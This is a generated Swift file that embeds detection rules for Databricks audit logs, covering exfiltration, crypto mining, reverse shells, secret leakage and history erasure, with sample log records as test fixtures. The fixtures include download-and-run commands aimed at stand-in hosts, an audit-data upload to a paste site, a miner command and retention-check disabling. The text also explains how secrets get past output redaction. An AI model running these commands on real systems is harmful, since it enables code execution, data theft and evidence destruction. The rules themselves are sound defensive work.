// Written by `make generate` from Catalogue/rules/code. Do not edit.
// swift-format-ignore-file

extension GeneratedRules {
    static let codeRules: StaticString = #"""
#file code/audit-data-copied.yml
title: Audit data copied into another table or view
id: c3ef1dd1-8582-4eb7-bd88-a85e8d228d89
name: audit-data-copied
status: stable
description: >-
    A statement made a table or view from system.access, or inserted from it. The copy has its own grants, its
    own retention, and nobody watches it. Temporary views end with the session and are left out.
references:
    - 'https://docs.databricks.com/aws/en/admin/account-settings/audit-logs'
author: Trailwarden
date: 2026-03-02
tags:
    - attack.collection
    - attack.t1074.002
    - attack.t1530
    - soc2.cc6.7
    - soc2.c1.1
    - soc2.cc7.2
logsource:
    product: databricks
detection:
    selection:
        actionName:
            - runCommand
            - submitCommand
            - commandSubmit
        requestParams.commandText|re: '(?is)\b(create\s+(or\s+(replace|refresh)\s+)?(table|view|materialized\s+view|streaming\s+table)|insert\s+(into|overwrite))\b.*\bsystem\.access\.'
    condition: selection
fields:
    - userIdentity.email
    - sourceIPAddress
    - actionName
    - requestParams.commandText
    - requestParams.notebookId
    - requestParams.warehouseId
falsepositives:
    - >-
      The declared job that builds security tables; exclude its principal.
level: high
runbook: >-
    Find the copy, check its grants, and delete it or give it the class of the source.
maturity: stable
requires:
    - databricks.workspace-level
    - databricks.verbose
#examples
#file code/audit-data-exported-by-code.yml
title: Audit data written to files or sent out by code
id: ed10dc8a-de2f-4ff0-98a5-32699f1e8d73
name: audit-data-exported-by-code
status: stable
description: >-
    Code read system.access and wrote it to a path, or collected it for sending. Files carry no grants.
references:
    - 'https://docs.databricks.com/aws/en/admin/account-settings/audit-logs'
author: Trailwarden
date: 2026-03-02
tags:
    - attack.exfiltration
    - attack.collection
    - attack.t1567
    - attack.t1005
    - soc2.cc6.7
    - soc2.c1.1
logsource:
    product: databricks
detection:
    selection:
        actionName:
            - runCommand
            - submitCommand
            - commandSubmit
        requestParams.commandText|re: '(?is)system\.access\.(audit|table_lineage|column_lineage).*(\.write\b|\.toPandas\(|\.to_csv\(|\.save\(|requests\.(post|put)|insert\s+overwrite\s+directory)'
    condition: selection
fields:
    - userIdentity.email
    - sourceIPAddress
    - actionName
    - requestParams.commandText
    - requestParams.notebookId
    - requestParams.warehouseId
falsepositives:
    - >-
      A notebook of the security team.
level: high
runbook: >-
    Find the target path and its readers; remove the files.
maturity: stable
requires:
    - databricks.workspace-level
    - databricks.verbose
#examples
#file code/crypto-miner.yml
title: Crypto mining command
id: 6fc6ac3e-f4bd-4b8d-9bd0-d1d2d88d83e0
name: crypto-miner
status: stable
description: >-
    A command names a mining program or pool.
references:
    - 'https://docs.databricks.com/aws/en/admin/account-settings/audit-logs'
author: Trailwarden
date: 2026-03-02
tags:
    - attack.impact
    - attack.t1496
    - soc2.cc6.8
logsource:
    product: databricks
detection:
    selection:
        actionName:
            - runCommand
            - submitCommand
            - commandSubmit
        requestParams.commandText|contains:
            - xmrig
            - 'stratum+tcp://'
            - 'stratum+ssl://'
            - minerd
            - cryptonight
            - '--coin=monero'
    condition: selection
fields:
    - userIdentity.email
    - sourceIPAddress
    - actionName
    - requestParams.commandText
    - requestParams.notebookId
    - requestParams.warehouseId
falsepositives:
    - >-
      None.
level: high
runbook: >-
    Stop the cluster; check who can start clusters and with which limits.
maturity: stable
requires:
    - databricks.workspace-level
    - databricks.verbose
#examples
#file code/download-tool-in-notebook.yml
title: Program downloaded and run in a notebook
id: 1f11fa78-4296-4bd7-854f-5955269b7d04
name: download-tool-in-notebook
status: stable
description: >-
    A command fetches a program or script from the internet and runs it.
references:
    - 'https://docs.databricks.com/aws/en/admin/account-settings/audit-logs'
author: Trailwarden
date: 2026-03-02
tags:
    - attack.command-and-control
    - attack.execution
    - attack.t1105
    - attack.t1059.004
    - soc2.cc6.8
logsource:
    product: databricks
detection:
    selection:
        actionName:
            - runCommand
            - submitCommand
            - commandSubmit
        requestParams.commandText|re: '(?is)(curl|wget)\s[^\n|;]*\|\s*(sudo\s+)?(ba|z|da)?sh\b|(curl|wget)\s[^\n]*(-o|-O)\s*\S+[\s\S]{0,120}chmod\s+(\+x|7\d\d)'
    condition: selection
fields:
    - userIdentity.email
    - sourceIPAddress
    - actionName
    - requestParams.commandText
    - requestParams.notebookId
    - requestParams.warehouseId
falsepositives:
    - >-
      Installers of known tools.
level: medium
runbook: >-
    Check the address and the hash of what was run.
maturity: stable
requires:
    - databricks.workspace-level
    - databricks.verbose
#examples
#file code/grant-in-sql-on-system.yml
title: SQL grant on the system catalog
id: e31fe407-ce34-456d-83bc-e8247380b30b
name: grant-in-sql-on-system
status: stable
description: >-
    A statement grants a privilege on the system catalog or system.access. The grant itself is logged as
    updatePermissions at account level; this rule also sees it where only workspace logs are connected.
references:
    - 'https://docs.databricks.com/aws/en/admin/account-settings/audit-logs'
author: Trailwarden
date: 2026-03-02
tags:
    - attack.persistence
    - attack.t1098
    - soc2.cc6.3
    - soc2.c1.1
logsource:
    product: databricks
detection:
    selection:
        actionName:
            - runCommand
            - submitCommand
            - commandSubmit
        requestParams.commandText|re: '(?is)\bgrant\s+[\w ,]+\s+on\s+(catalog\s+`?system`?\b|schema\s+`?system`?\.`?access\b|(table\s+|view\s+)?`?system`?\.`?access`?\.)'
    condition: selection
fields:
    - userIdentity.email
    - sourceIPAddress
    - actionName
    - requestParams.commandText
    - requestParams.notebookId
    - requestParams.warehouseId
falsepositives:
    - >-
      Planned set-up of readers.
level: high
runbook: >-
    See grant-on-audit-data.
maturity: stable
requires:
    - databricks.workspace-level
    - databricks.verbose
#examples
#file code/history-erased-by-vacuum.yml
title: Table history erased
id: 3f9c0a29-8305-4c5e-9006-9059f00172ac
name: history-erased-by-vacuum
status: stable
description: >-
    VACUUM with a retention of 0 hours, or with the safety check off, deletes the old versions of a Delta table
    for good: no time travel, no restore, no evidence.
references:
    - 'https://docs.databricks.com/aws/en/admin/account-settings/audit-logs'
author: Trailwarden
date: 2026-03-02
tags:
    - attack.impact
    - attack.defense-evasion
    - attack.t1485
    - attack.t1070.004
    - soc2.a1.2
    - soc2.cc7.3
logsource:
    product: databricks
detection:
    selection:
        actionName:
            - runCommand
            - submitCommand
            - commandSubmit
        requestParams.commandText|re: '(?is)(vacuum\s+\S+(\s+using\s+inventory.*)?\s+(lite\s+|full\s+)?retain\s+0(\.0)?\s+hours|retentionDurationCheck\.enabled\W{1,6}false)'
    condition: selection
fields:
    - userIdentity.email
    - sourceIPAddress
    - actionName
    - requestParams.commandText
    - requestParams.notebookId
    - requestParams.warehouseId
falsepositives:
    - >-
      Erasure for privacy law.
level: high
runbook: >-
    Ask for the reason; if the table holds evidence, restore the objects from bucket versions.
maturity: stable
requires:
    - databricks.workspace-level
    - databricks.verbose
#examples
#file code/metadata-service-read.yml
title: Instance metadata service read from a notebook
id: 1dae607c-83f9-4642-b41e-61ffc54e5dd6
name: metadata-service-read
status: stable
description: >-
    A command called the metadata address of the cloud. It hands out the credentials of the machine's role,
    which reach further than those of the user.
references:
    - 'https://docs.databricks.com/aws/en/admin/account-settings/audit-logs'
author: Trailwarden
date: 2026-03-02
tags:
    - attack.credential-access
    - attack.t1552.005
    - soc2.cc6.1
    - soc2.cc7.2
logsource:
    product: databricks
detection:
    selection:
        actionName:
            - runCommand
            - submitCommand
            - commandSubmit
        requestParams.commandText|contains:
            - '169.254.169.254'
            - metadata.google.internal
            - '[fd00:ec2::254]'
    condition: selection
fields:
    - userIdentity.email
    - sourceIPAddress
    - actionName
    - requestParams.commandText
    - requestParams.notebookId
    - requestParams.warehouseId
falsepositives:
    - >-
      A check by the platform team.
level: critical
runbook: >-
    Stop the cluster, rotate the role session, enforce IMDSv2 and standard access mode.
maturity: stable
requires:
    - databricks.workspace-level
    - databricks.verbose
#examples
#file code/reverse-shell.yml
title: Reverse shell or pipe to a remote host
id: 0a49f4d3-ce3f-4468-a8cc-5cb4ec2eec8e
name: reverse-shell
status: stable
description: >-
    A command opened a shell to a remote host with one of the usual patterns.
references:
    - 'https://docs.databricks.com/aws/en/admin/account-settings/audit-logs'
author: Trailwarden
date: 2026-03-02
tags:
    - attack.execution
    - attack.command-and-control
    - attack.t1059.004
    - attack.t1071
    - soc2.cc6.8
    - soc2.cc7.2
logsource:
    product: databricks
detection:
    selection:
        actionName:
            - runCommand
            - submitCommand
            - commandSubmit
        requestParams.commandText|re: '(?is)(/dev/tcp/\d|\bbash\s+-i\s+[>&]|\bnc(at)?\s+(-\w+\s+)*-e\s|mkfifo\s+/tmp/|socat\s+.*exec:|pty\.spawn\(|import\s+socket.{0,200}dup2\()'
    condition: selection
fields:
    - userIdentity.email
    - sourceIPAddress
    - actionName
    - requestParams.commandText
    - requestParams.notebookId
    - requestParams.warehouseId
falsepositives:
    - >-
      A penetration test.
level: critical
runbook: >-
    Stop the cluster at once, keep its driver logs, and look at outbound traffic to the host.
maturity: stable
requires:
    - databricks.workspace-level
    - databricks.verbose
#examples
#file code/secret-printed.yml
title: Secret printed past redaction
id: 899e4405-adfb-48bc-9b8f-1960439e19c7
name: secret-printed
status: experimental
description: >-
    Code reads a secret and takes it apart or encodes it before printing. Databricks redacts whole secrets in
    output, so this is the known way round. What is told: letters printed one by one, and what is encoded, reversed
    or joined within a print, or as the last line of a cell, whose value is shown without one.
references:
    - 'https://docs.databricks.com/aws/en/admin/account-settings/audit-logs'
author: Trailwarden
date: 2026-03-02
tags:
    - attack.credential-access
    - attack.t1552
    - attack.t1555.006
    - soc2.cc6.1
    - soc2.c1.1
logsource:
    product: databricks
detection:
    selection:
        actionName:
            - runCommand
            - submitCommand
            - commandSubmit
        requestParams.commandText|contains: dbutils.secrets.get
    apart:
        - requestParams.commandText|re: '(?i)(print|println|display|displayHTML)\s*\([^\n]{0,200}(b64encode|hexlify|\[::-1\]|\.hex\(|reversed\(|["''][^,\\"'']{0,2}["'']\.join\(|\blist\(\w*(secret|passw|pwd|token|cred))'
        - requestParams.commandText|re: '(?i)for\s+\w+\s+in\s+(dbutils\.secrets\.get|\w*(secret|passw|pwd|token|cred)\w*\s*:)'
        - requestParams.commandText|re: '(?im)^\s*dbutils\.secrets\.get\([^)\n]*\)\s*(\[|\.encode\([^)\n]*\)\.hex\()'
        - requestParams.commandText|re: '(?im)^\s*((base64\.)?b64encode|(binascii\.)?hexlify|["''][^,\\"'']{0,2}["'']\.join|list)\(.{0,20}dbutils\.secrets\.get'
    condition: selection and apart
fields:
    - userIdentity.email
    - sourceIPAddress
    - actionName
    - requestParams.commandText
    - requestParams.notebookId
    - requestParams.warehouseId
falsepositives:
    - >-
      Code that prints something else, joined or encoded, in the cell in which it reads a secret.
level: medium
runbook: >-
    Treat the secret as seen and rotate it; ask the author.
maturity: incubating
requires:
    - databricks.workspace-level
    - databricks.verbose
#examples
"""#

    static let codeExamples: StaticString = #"""
#file code/audit-data-copied.yml
#examples
examples:
    match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "databrickssql", "actionName": "commandSubmit", "requestId": "ServiceMain-794814f7d5071780", "requestParams": {"warehouseId": "0123456789abcdef", "commandId": "c2", "commandText": "CREATE TABLE main.tmp.a AS SELECT * FROM system.access.audit"}, "response": {"statusCode": 200}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-5b90360a9c1a688b", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "spark.sql(\"insert into sec.x select user_identity from system.access.audit\")"}, "response": {"statusCode": 0}}
    no_match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "databrickssql", "actionName": "commandSubmit", "requestId": "ServiceMain-e9d6613dcb0447ef", "requestParams": {"warehouseId": "0123456789abcdef", "commandId": "c2", "commandText": "SELECT count(*) FROM system.access.audit"}, "response": {"statusCode": 200}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "databrickssql", "actionName": "commandSubmit", "requestId": "ServiceMain-f4529e95e9020035", "requestParams": {"warehouseId": "0123456789abcdef", "commandId": "c2", "commandText": "CREATE TABLE main.tmp.a AS SELECT * FROM main.sales.orders"}, "response": {"statusCode": 200}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "databrickssql", "actionName": "commandSubmit", "requestId": "ServiceMain-794814f7d5071780", "requestParams": {"warehouseId": "0123456789abcdef", "commandId": "c2", "commandText": "CREATE OR REPLACE TEMP VIEW logins AS SELECT * FROM system.access.audit WHERE action_name = 'login'"}, "response": {"statusCode": 200}}
#file code/audit-data-exported-by-code.yml
#examples
examples:
    match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-0321cd988443f3f9", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "spark.table(\"system.access.audit\").write.mode(\"overwrite\").parquet(\"s3://drop/x\")"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-658c83ee7f973791", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "df=spark.sql(\"select * from system.access.audit\").toPandas()\nrequests.post(\"https://paste.example.net\",data=df.to_csv())"}, "response": {"statusCode": 0}}
    no_match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-70d438614ce88d8e", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "display(spark.table(\"system.access.audit\").limit(10))"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-65ed93424fcd9e79", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "spark.table(\"main.sales.orders\").write.parquet(\"s3://acme/x\")"}, "response": {"statusCode": 0}}
#file code/crypto-miner.yml
#examples
examples:
    match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-6760fe5779207027", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "%sh ./xmrig -o stratum+tcp://pool.example.net:3333"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-035f367cc752f227", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "subprocess.run([\"/tmp/minerd\",\"-a\",\"sha256d\"])"}, "response": {"statusCode": 0}}
    no_match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-028831cdadb3946f", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "from sklearn import strata"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "databrickssql", "actionName": "commandSubmit", "requestId": "ServiceMain-f8c73fd7825b4bd8", "requestParams": {"warehouseId": "0123456789abcdef", "commandId": "c2", "commandText": "SELECT 'mining company'"}, "response": {"statusCode": 200}}
#file code/download-tool-in-notebook.yml
#examples
examples:
    match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-b662f2f20b78ae9d", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "%sh curl -fsSL https://get.example.net/i.sh | bash"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-ee2fcf85b289d5c1", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "%sh wget https://x.example.net/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"}, "response": {"statusCode": 0}}
    no_match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-d63a8d263843b992", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "%sh curl -s https://api.example.com/v1/health"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-c58eee1100bac007", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "%pip install pandas"}, "response": {"statusCode": 0}}
#file code/grant-in-sql-on-system.yml
#examples
examples:
    match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "databrickssql", "actionName": "commandSubmit", "requestId": "ServiceMain-af2fe92881c82642", "requestParams": {"warehouseId": "0123456789abcdef", "commandId": "c2", "commandText": "GRANT SELECT ON TABLE system.access.audit TO `tom.okafor@example.com`"}, "response": {"statusCode": 200}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-beb2f2e4dc4d9432", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "spark.sql(\"GRANT USE CATALOG, SELECT ON CATALOG system TO `account users`\")"}, "response": {"statusCode": 0}}
    no_match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "databrickssql", "actionName": "commandSubmit", "requestId": "ServiceMain-65f8e866a8e47799", "requestParams": {"warehouseId": "0123456789abcdef", "commandId": "c2", "commandText": "REVOKE SELECT ON TABLE system.access.audit FROM `tom.okafor@example.com`"}, "response": {"statusCode": 200}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "databrickssql", "actionName": "commandSubmit", "requestId": "ServiceMain-2c256967de3e033e", "requestParams": {"warehouseId": "0123456789abcdef", "commandId": "c2", "commandText": "GRANT SELECT ON TABLE main.sales.orders TO `analysts`"}, "response": {"statusCode": 200}}
#file code/history-erased-by-vacuum.yml
#examples
examples:
    match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "databrickssql", "actionName": "commandSubmit", "requestId": "ServiceMain-8bbd1ba3c0a99c0a", "requestParams": {"warehouseId": "0123456789abcdef", "commandId": "c2", "commandText": "VACUUM main.sec.audit_copy RETAIN 0 HOURS"}, "response": {"statusCode": 200}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-0399494485a71958", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "spark.conf.set(\"spark.databricks.delta.retentionDurationCheck.enabled\", \"false\")"}, "response": {"statusCode": 0}}
    no_match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "databrickssql", "actionName": "commandSubmit", "requestId": "ServiceMain-690c0e200f78ee15", "requestParams": {"warehouseId": "0123456789abcdef", "commandId": "c2", "commandText": "VACUUM main.sec.audit_copy RETAIN 168 HOURS"}, "response": {"statusCode": 200}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "databrickssql", "actionName": "commandSubmit", "requestId": "ServiceMain-3403c41965af1eaa", "requestParams": {"warehouseId": "0123456789abcdef", "commandId": "c2", "commandText": "VACUUM main.sec.audit_copy"}, "response": {"statusCode": 200}}
#file code/metadata-service-read.yml
#examples
examples:
    match:
